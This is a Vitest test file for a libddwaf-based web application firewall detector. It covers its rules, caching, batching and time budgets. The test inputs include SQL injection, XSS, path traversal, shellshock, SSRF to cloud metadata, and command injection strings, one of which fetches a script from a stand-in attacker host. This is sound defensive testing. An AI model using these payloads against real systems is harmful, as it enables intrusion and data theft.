import { afterAll, describe, expect, it } from 'vitest';
import querystring from 'node:querystring';
import fc from 'fast-check';
import { Detector, parseCookies, summarize, type DetectionResult } from '../../packages/agent/src/waf.ts';
import { headersUsedBy, ruleset, SCANNER_USER_AGENTS } from '../../packages/agent/src/rules/ruleset.ts';

// A generous budget: on a loaded 2-core machine a 5 ms wall-clock budget can run out (a timeout is
// no detection, by design), and these tests are about what the rules match.
const detector = new Detector({ budgetMicros: 1_000_000 });
afterAll(() => detector.close());

/** `value` wrapped in `depth` objects. */
const nest = (value: unknown, depth: number): unknown => {
  let v = value;
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
};

const types = (facts: Parameters<Detector['detect']>[0]) =>
  detector
    .detect(facts)
    .detections.map((d) => `${d.attackType}:${d.severity}`)
    .sort();

describe('ruleset loaded in libddwaf', () => {
  it('loads every rule and reads exactly the addresses the agent fills', () => {
    expect(detector.ruleCount).toBe(ruleset.rules.length);
    expect([...detector.knownAddresses].sort()).toEqual(
      [
        'server.request.body',
        'server.request.cookies',
        'server.request.headers.no_cookies',
        'server.request.path_params',
        'server.request.query',
        'server.request.uri.raw',
      ].sort(),
    );
  });

  it('tags every rule with a type and a valid severity, and lists the headers it reads', () => {
    for (const rule of ruleset.rules) {
      expect(rule.tags.attack_type).toMatch(/^[a-z_]+$/);
      expect(rule.tags.type).toBe(rule.id); // one libddwaf group per rule: no rule hides another
      expect(['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL']).toContain(rule.tags.severity);
    }
    expect(headersUsedBy(ruleset)).toEqual(new Set(['user-agent', 'referer', 'x-forwarded-for', 'acunetix-product', 'x-scanner', 'x-wipp']));
  });

  it('rejects a broken ruleset at construction', () => {
    expect(() => new Detector({ rules: { version: '2.2', rules: [{ id: 'x', name: 'x', tags: { type: 't' }, conditions: [{ operator: 'no_such_op', parameters: {} }] }] } })).toThrow(/ruleset rejected|rules failed/);
  });
});

describe('detections', () => {
  it.each([
    ['SQL injection in the query', { query: { q: "1' OR '1'='1" } }, 'sql_injection:HIGH'],
    ['SQL injection (UNION) in a JSON body', { body: { id: '-1 UNION SELECT username, password FROM users--' } }, 'sql_injection:HIGH'],
    ['SQL injection in a path parameter', { pathParams: { id: "1' OR 1=1--" } }, 'sql_injection:HIGH'],
    ['SQL injection in a cookie value', { headers: { cookie: "session=abc; pref=1' OR '1'='1" } }, 'sql_injection:HIGH'],
    ['XSS in the query', { query: { q: '<script>alert(1)</script>' } }, 'xss:MEDIUM'],
    ['XSS with an event handler in a form body', { body: { comment: '<img src=x onerror=alert(document.cookie)>' } }, 'xss:MEDIUM'],
    ['XSS in the referer header', { headers: { referer: 'http://x/"><script>alert(1)</script>' } }, 'xss:MEDIUM'],
    ['path traversal to /etc/passwd', { query: { name: '../../etc/passwd' } }, 'path_traversal:HIGH'],
    ['path traversal sequence only', { query: { name: '../../../secret/report.pdf' } }, 'path_traversal:MEDIUM'],
    ['encoded traversal in the raw path', { uri: '/static/%2e%2e/%2e%2e/app/config.js' }, 'path_traversal:MEDIUM'],
    ['Windows traversal', { query: { f: '..\\..\\windows\\win.ini' } }, 'path_traversal:HIGH'],
    ['command injection with ;', { body: { host: '8.8.8.8; cat /etc/passwd' } }, 'command_injection:CRITICAL|path_traversal:HIGH'],
    ['command injection with $()', { query: { host: '$(whoami)' } }, 'command_injection:CRITICAL'],
    ['command injection with && and a URL', { query: { host: 'x && curl http://evil.example/x.sh' } }, 'command_injection:CRITICAL'],
    ['command injection with backticks', { query: { name: 'a`id`' } }, 'command_injection:CRITICAL'],
    ['shellshock in the user agent', { headers: { 'user-agent': '() { :; }; /bin/bash -c "id"' } }, 'command_injection:CRITICAL'],
    ['SSRF to the cloud metadata endpoint', { query: { url: 'http://169.254.169.254/latest/meta-data/iam/' } }, 'ssrf:HIGH'],
    ['SSRF with gopher://', { query: { url: 'gopher://127.0.0.1:6379/_FLUSHALL' } }, 'ssrf:HIGH'],
    ['SSRF with file://', { body: { avatar: 'file:///etc/hosts' } }, 'path_traversal:HIGH|ssrf:HIGH'],
    ['SSRF to localhost', { query: { url: 'http://localhost:8080/admin' } }, 'ssrf:MEDIUM'],
    ['SSRF to a private address', { query: { webhook: 'https://10.0.0.12/internal' } }, 'ssrf:MEDIUM'],
    ['sqlmap user agent', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }, 'scanner:LOW'],
    ['Nikto user agent', { headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' } }, 'scanner:LOW'],
    ['Nmap NSE user agent', { headers: { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' } }, 'scanner:LOW'],
    ['Nuclei user agent', { headers: { 'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' } }, 'scanner:LOW'],
    ['WPScan user agent', { headers: { 'user-agent': 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)' } }, 'scanner:LOW'],
    ['Acunetix header', { headers: { 'acunetix-product': 'WVS/12.0' } }, 'scanner:LOW'],
  ])('%s', (_name, facts, expected) => {
    expect(types(facts).join('|')).toBe(expected);
  });

  it('evaluates every rule: a MEDIUM rule of a type never hides a HIGH one', () => {
    for (let i = 0; i < 5; i++) {
      const [d] = detector.detect({ query: { name: `../../etc/passwd#${i}` } }).detections;
      expect(d).toEqual({ attackType: 'path_traversal', severity: 'HIGH', rules: expect.arrayContaining(['rh-lfi-001', 'rh-lfi-002']) });
    }
  });

  it('detects every listed scanner user agent', () => {
    for (const ua of SCANNER_USER_AGENTS) {
      expect(types({ headers: { 'user-agent': `Mozilla/5.0 ${ua}/1.0` } }), ua).toEqual(['scanner:LOW']);
    }
  });

  it.each([
    ['hello world', { query: { q: 'hello world' } }],
    ['normal search terms', { query: { q: 'red running shoes size 42', sort: 'price-asc', page: '2' } }],
    ['an apostrophe in a name', { query: { q: "O'Reilly books" } }],
    ['English with ; and &', { query: { q: 'dogs; cat lovers & more' } }],
    ['a normal path', { uri: '/products/42/reviews', pathParams: { id: '42' } }],
    ['a file name', { uri: '/files', query: { name: 'report-2024.pdf' } }],
    ['a relative-looking name', { query: { name: 'v1.2..3' } }],
    ['a public URL', { query: { url: 'https://example.com/page?x=1' } }],
    ['a login form with a strange password', { body: { username: 'alice', password: "p@ss'w0rd; --" } }],
    ['JSON with HTML-ish text', { body: { comment: 'I <3 this product, 5 > 4' } }],
    [
      'a browser',
      {
        uri: '/search',
        headers: {
          'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
          referer: 'https://shop.example.com/search?q=socks',
          cookie: 'theme=dark; consent=yes; sid=Zm9vYmFy',
          accept: 'text/html,application/xhtml+xml',
        },
      },
    ],
  ])('nothing for %s', (_name, facts) => {
    expect(types(facts)).toEqual([]);
  });
});

describe('time budget and engine behaviour', () => {
  it('a run over budget is a timeout and counts as no detection', () => {
    const tight = new Detector({ budgetMicros: 1 });
    try {
      const body: Record<string, string> = {};
      for (let i = 0; i < 200; i++) body[`f${i}`] = `${'x'.repeat(2000)} ${i}`;
      body.attack = "1' OR '1'='1";
      const r = tight.detect({ body, query: { q: '<script>alert(1)</script>' } });
      expect(r.timeout).toBe(true);
      expect(r.detections).toEqual([]);
      // batched: a batch over budget falls back to single runs, each over its own budget
      const many = tight.detectMany([{ body }, { body: { ...body, x: '1' } }, { uri: '/p', query: { q: '<script>alert(1)</script>' }, body }]);
      expect(many.map((m) => m.timeout)).toEqual([true, true, true]);
      expect(many.flatMap((m) => m.detections)).toEqual([]);
    } finally {
      tight.close();
    }
  });

  it('remembers clean values, skips the engine for a request made only of them, and still catches an attack in a new value', () => {
    const d = new Detector({ budgetMicros: 1_000_000 });
    try {
      const browser = { 'user-agent': 'Mozilla/5.0 Firefox/125.0', cookie: 'theme=dark' };
      const page = { uri: '/search?q=socks', query: { q: 'socks' }, headers: browser };
      d.detect({ headers: browser });
      expect(d.cacheMisses).toBe(2);
      d.detect(page);
      expect(d.cacheMisses).toBe(4); // the path and the query value are new, the headers are not
      const runs = d.engineRuns;
      expect(d.detect(page).detections).toEqual([]);
      expect(d.engineRuns).toBe(runs); // nothing new: the engine is not called
      expect(d.detect({ ...page, query: { q: 'socks', page: '2' } }).detections).toEqual([]);
      expect(d.engineRuns).toBe(runs + 1);
      expect(d.detect({ headers: { ...browser, cookie: "theme=1' OR '1'='1" } }).detections.map((x) => x.attackType)).toEqual(['sql_injection']);
      expect(d.detect({ ...page, query: { q: 'socks', id: "1' OR '1'='1" } }).detections.map((x) => x.attackType)).toEqual(['sql_injection']);
      // a value seen in a run that matched is never remembered as clean
      expect(d.detect({ headers: { ...browser, cookie: "theme=1' OR '1'='1" } }).detections).toHaveLength(1);
      expect(d.detect({ query: { id: "1' OR '1'='1" } }).detections).toHaveLength(1);
      // the same value under another parameter name is judged again
      const before = d.cacheMisses;
      d.detect({ query: { other: 'socks' } });
      expect(d.cacheMisses).toBe(before + 1);
    } finally {
      d.close();
    }
  });

  it('remembers a whole query string once all its values are judged clean, per parser, never after a match', () => {
    const d = new Detector({ budgetMicros: 1_000_000 });
    const simple = (q: string) => Object.fromEntries(new URLSearchParams(q));
    const other = () => ({});
    try {
      const clean = 'q=wool+socks&page=2';
      expect(d.knowsQuery(simple, clean)).toBe(false);
      d.detect({ uri: `/search?${clean}`, query: simple(clean), rawQuery: clean, queryParser: simple });
      expect(d.knowsQuery(simple, clean)).toBe(true);
      expect(d.knowsQuery(other, clean)).toBe(false); // another parser may read the string otherwise
      // values known one by one: the string is known without a run
      const runs = d.engineRuns;
      d.detect({ uri: '/search?page=2&q=wool+socks', query: simple('page=2&q=wool+socks'), rawQuery: 'page=2&q=wool+socks', queryParser: simple });
      expect(d.engineRuns).toBe(runs);
      expect(d.knowsQuery(simple, 'page=2&q=wool+socks')).toBe(true);
      // a string with an attack is never remembered, batched or not
      const attack = "q=1'+OR+'1'%3D'1";
      expect(d.detect({ uri: `/search?${attack}`, query: simple(attack), rawQuery: attack, queryParser: simple }).detections).toHaveLength(1);
      const many = d.detectMany([
        { uri: '/a', query: simple('q=tea+9'), rawQuery: 'q=tea+9', queryParser: simple },
        { uri: '/b', query: simple(attack), rawQuery: attack, queryParser: simple },
      ]);
      expect(many.map((r) => r.detections.length)).toEqual([0, 1]);
      expect(d.knowsQuery(simple, attack)).toBe(false);
      expect(d.knowsQuery(simple, 'q=tea+9')).toBe(true);
    } finally {
      d.close();
    }
  });

  it('keeps at most cleanCacheSize clean values, forgetting the oldest first (per-field caches)', () => {
    const d = new Detector({ budgetMicros: 1_000_000, cleanCacheSize: 3 });
    const internals = d as unknown as { cache: { query: Map<string, Map<string, true>> } };
    try {
      d.detect({ query: { a: 'one' } });
      d.detect({ query: { b: 'two' } });
      d.detect({ query: { c: 'three' } });
      const runs = d.engineRuns;
      d.detect({ query: { a: 'one', b: 'two', c: 'three' } });
      expect(d.engineRuns).toBe(runs); // all three known clean
      d.detect({ query: { d: 'four' } }); // forgets a=one, the oldest, and the empty field `a` with it
      expect([...internals.cache.query.keys()].sort()).toEqual(['b', 'c', 'd']);
      const misses = d.cacheMisses;
      d.detect({ query: { a: 'one', c: 'three' } });
      expect(d.cacheMisses).toBe(misses + 1); // a=one is judged again, c=three is still known
      // the same value in another field is another value; an attack is caught whatever the cache holds
      expect(d.detect({ query: { b: "1' OR '1'='1" } }).detections.map((x) => x.attackType)).toEqual(['sql_injection']);
      expect(d.detect({ headers: { 'user-agent': 'two' } }).detections).toEqual([]);
    } finally {
      d.close();
    }
  });

  it('inspects several requests in one engine run, and attributes attacks to the right request', () => {
    const d = new Detector({ budgetMicros: 1_000_000 });
    try {
      const clean = Array.from({ length: 10 }, (_, i) => ({ uri: `/p/${i}`, query: { q: `socks ${i}` } }));
      let runs = d.engineRuns;
      expect(d.detectMany(clean).map((r) => r.detections)).toEqual(clean.map(() => []));
      expect(d.engineRuns - runs).toBe(1);
      expect(d.batchedRuns).toBe(1);

      const mixed = [
        { uri: '/a', query: { q: 'tea 1' } },
        { uri: '/b', query: { q: "1' OR '1'='1" } },
        { uri: '/c', body: { c: '<script>alert(1)</script>' } },
        { uri: '/d', query: { q: "2' OR '2'='2" } }, // a second SQLi: found although the type matched in request 1
        { uri: '/e', headers: { 'user-agent': 'sqlmap/1.7' } }, // headers: run on its own
      ];
      runs = d.engineRuns;
      const out = d.detectMany(mixed).map((r) => r.detections.map((x) => x.attackType));
      expect(out).toEqual([[], ['sql_injection'], ['xss'], ['sql_injection'], ['scanner']]);
      // headers alone; then batch → request 1 (SQLi) and 2 (XSS) named → alone; batch of 0,3 → 3 named → alone; 0 alone
      expect(d.engineRuns - runs).toBeLessThanOrEqual(1 + 1 + 2 + 1 + 1 + 1);
      // the clean request of that batch was not remembered (the batch matched); it is clean on its own
      expect(d.detectMany([{ uri: '/a', query: { q: 'tea 1' } }])[0]!.detections).toEqual([]);
    } finally {
      d.close();
    }
  });

  it('batched inspection gives exactly the per-request verdicts (property)', () => {
    const pool = [
      { uri: '/search', query: { q: 'wool socks' } },
      { uri: '/search', query: { q: "1' OR '1'='1" } },
      { uri: '/search', query: { q: '<script>alert(1)</script>' } },
      { uri: '/files', query: { name: '../../etc/passwd' } },
      { uri: '/files', query: { name: '../x' } },
      { uri: '/users/42', pathParams: { id: '42' } },
      { uri: '/users/x', pathParams: { id: "1' OR 1=1--" } },
      { uri: '/run', body: { host: '1.1.1.1; cat /etc/passwd' } },
      { uri: '/fetch', body: { url: 'http://169.254.169.254/' } },
      { uri: '/fetch', body: { url: 'http://localhost/' } },
      { uri: '/', headers: { 'user-agent': 'nikto' } },
      { uri: '/', headers: { cookie: "a=1' OR '1'='1" } },
      { uri: '/%2e%2e/%2e%2e/etc/passwd' },
      { uri: '/search', query: { q: 'tea', page: '2' } },
      // batched runs send flat arrays of leaf values, each distinct value once: shared values, nesting,
      // non-strings, and bodies big enough to split a batch or to run alone
      { uri: '/', headers: { cookie: "theme=dark; sid=1' OR '1'='1" } },
      { uri: '/', headers: { cookie: 'theme=dark; sid=s42' } },
      { uri: '/api', body: { a: [{ b: '<script>alert(1)</script>' }, 'socks'], n: 1, ok: true } },
      { uri: '/api', body: { a: [{ b: 'wool' }, 'socks'], n: 1, ok: false, none: null } },
      { uri: '/bulk', body: { items: Array.from({ length: 100 }, (_, i) => `item ${i}`) } },
      { uri: '/bulk', body: { items: [...Array.from({ length: 99 }, (_, i) => `item ${i}`), '../../etc/passwd'] } },
      { uri: '/bulk', body: { items: Array.from({ length: 200 }, (_, i) => (i === 150 ? "x' OR '1'='1" : `item ${i}`)) } },
      // several rules in one request, the same attack in several requests, attacks nested near the depth limits
      { uri: '/search', query: { q: "1' OR '1'='1", r: '<script>alert(1)</script>', f: '../../etc/passwd' } },
      { uri: '/files', query: { name: '../../etc/passwd', q: "1' OR '1'='1" } },
      { uri: '/x', pathParams: { id: '<svg onload=alert(1)>' }, headers: { cookie: 'theme=dark' } },
      { uri: '/deep', body: nest("1' OR '1'='1", 15) },
      { uri: '/deep', body: nest("1' OR '1'='1", 19) },
      { uri: '/deep', body: nest(['socks', '<script>alert(1)</script>'], 17) },
    ];
    const reference = new Detector({ budgetMicros: 1_000_000, cleanCacheSize: 0 });
    const batched = new Detector({ budgetMicros: 1_000_000 });
    try {
      fc.assert(
        fc.property(fc.array(fc.integer({ min: 0, max: pool.length - 1 }), { minLength: 1, maxLength: 24 }), (idx) => {
          const batch = idx.map((i) => pool[i]!);
          const verdict = (r: DetectionResult) => r.detections.map((x) => `${x.attackType}:${x.severity}:${[...x.rules].sort().join('+')}`).sort();
          const got = batched.detectMany(batch).map(verdict);
          const want = batch.map((f) => verdict(reference.detect(f)));
          expect(got).toEqual(want);
        }),
        { numRuns: 150 },
      );
    } finally {
      reference.close();
      batched.close();
    }
  });

  it('splits a batch whose values exceed what libddwaf reads in one container (256)', () => {
    const d = new Detector({ budgetMicros: 1_000_000 });
    try {
      const bulk = (k: number, attack: boolean) => ({
        uri: '/bulk',
        body: { items: Array.from({ length: 100 }, (_, i) => (attack && i === 99 ? '../../etc/passwd' : `item ${k} ${i}`)) },
      });
      const out = d.detectMany([bulk(1, false), bulk(2, false), bulk(3, true)]).map((r) => r.detections.map((x) => x.attackType));
      expect(out).toEqual([[], [], ['path_traversal']]);
    } finally {
      d.close();
    }
  });

  it('gives a batched verdict only for values a single run sees (nesting depth)', () => {
    const reference = new Detector({ budgetMicros: 1_000_000, cleanCacheSize: 0 });
    const batched = new Detector({ budgetMicros: 1_000_000 });
    try {
      for (let depth = 10; depth <= 24; depth++) {
        const batch = [{ body: nest("1' OR '1'='1", depth) }, { uri: `/d/${depth}`, query: { q: `socks ${depth}` } }, { body: nest(['socks', 'tea'], depth - 1) }];
        const got = batched.detectMany(batch).map((r) => r.detections.map((x) => x.attackType));
        expect(got, `depth ${depth}`).toEqual(batch.map((f) => reference.detect(f).detections.map((x) => x.attackType)));
      }
    } finally {
      reference.close();
      batched.close();
    }
  });

  it('after a match, does not run again a request the batch judged exactly, and re-runs the others with the matched rules only', () => {
    const d = new Detector({ budgetMicros: 1_000_000 });
    try {
      const batch = [
        { uri: '/a', query: { q: 'tea 11' } },
        { uri: '/b', query: { q: "1' OR '1'='1", r: '<script>alert(1)</script>' } },
        { uri: '/c', query: { q: 'tea 12' } },
        { uri: '/d', query: { q: 'tea 13' } },
      ];
      const runs = d.engineRuns;
      const out = d.detectMany(batch).map((r) => r.detections.map((x) => x.attackType).sort());
      expect(out).toEqual([[], ['sql_injection', 'xss'], [], []]);
      // the batch (names request 1 for both rules that matched), then the three others with those two rules
      expect(d.engineRuns - runs).toBe(2);
      // a second attack of the same type, hidden behind the first in the batch, is found by the re-run
      const two = d.detectMany([batch[0]!, batch[1]!, { uri: '/e', query: { q: "2' OR '2'='2" } }, batch[2]!]).map((r) => r.detections.map((x) => x.attackType).sort());
      expect(two).toEqual([[], ['sql_injection', 'xss'], ['sql_injection'], []]);
    } finally {
      d.close();
    }
  });

  it('does not cache when a custom ruleset combines conditions', () => {
    const rules = {
      version: '2.2',
      rules: [
        {
          id: 'combo',
          name: 'ua and query together',
          tags: { type: 'custom', severity: 'LOW' },
          conditions: [
            { operator: 'match_regex', parameters: { inputs: [{ address: 'server.request.headers.no_cookies', key_path: ['user-agent'] }], regex: 'curl' } },
            { operator: 'match_regex', parameters: { inputs: [{ address: 'server.request.query' }], regex: 'admin' } },
          ],
        },
      ],
    };
    const d = new Detector({ rules });
    try {
      expect(d.detect({ headers: { 'user-agent': 'curl/8' }, query: { q: 'x' } }).detections).toEqual([]);
      expect(d.detect({ headers: { 'user-agent': 'curl/8' }, query: { q: 'admin' } }).detections.map((x) => x.attackType)).toEqual(['custom']);
    } finally {
      d.close();
    }
  });

  it('summarize keeps one detection per type at the highest severity', () => {
    const s = summarize([
      { rule: { id: 'a', tags: { type: 'ssrf', severity: 'MEDIUM' } } },
      { rule: { id: 'b', tags: { type: 'ssrf', severity: 'HIGH' } } },
      { rule: { id: 'c', tags: { type: 'xss', severity: 'bogus' } } },
      { rule: { id: 'd', tags: {} } },
      { rule: { id: 'e', tags: { type: 'rh-e', attack_type: 'ssrf', severity: 'CRITICAL' } } },
    ]);
    expect(s).toEqual([
      { attackType: 'ssrf', severity: 'CRITICAL', rules: ['a', 'b', 'e'] },
      { attackType: 'xss', severity: 'MEDIUM', rules: ['c'] },
    ]);
  });

  it('parses cookies', () => {
    expect(parseCookies('a=1; b="two"; c=%41%42; bad; =x')).toEqual({ a: '1', b: 'two', c: 'AB' });
  });

  it('inspects a parameter or cookie named __proto__ like any other (issue 13)', () => {
    const sqli = "1' OR '1'='1";
    // as node:querystring (Express 5's default query parser) gives it: an own property
    const query = querystring.parse(`__proto__=${encodeURIComponent(sqli)}&page=2`);
    expect(Object.keys(query)).toContain('__proto__');
    // a fresh detector (clean-value cache in use) and the shared one, alone and batched with clean requests
    const fresh = new Detector({ budgetMicros: 1_000_000 });
    try {
      for (const d of [fresh, detector]) {
        const kinds = (facts: Parameters<Detector['detect']>[0]) => d.detect(facts).detections.map((x) => x.attackType);
        expect(kinds({ query })).toEqual(['sql_injection']);
        expect(kinds({ pathParams: JSON.parse(`{"__proto__": ${JSON.stringify(sqli)}}`) })).toEqual(['sql_injection']);
        expect(kinds({ headers: { cookie: `__proto__=${encodeURIComponent(sqli)}; theme=dark` } })).toEqual(['sql_injection']);
        const batch = d.detectMany([{ query: { q: 'socks' } }, { query }, { headers: { cookie: `__proto__=${encodeURIComponent(sqli)}` } }, { query: { q: 'tea' } }]);
        expect(batch.map((r) => r.detections.map((x) => x.attackType))).toEqual([[], ['sql_injection'], ['sql_injection'], []]);
      }
    } finally {
      fresh.close();
    }
    expect(Object.keys(parseCookies(`__proto__=x; a=1`))).toEqual(['__proto__', 'a']);
  });
});
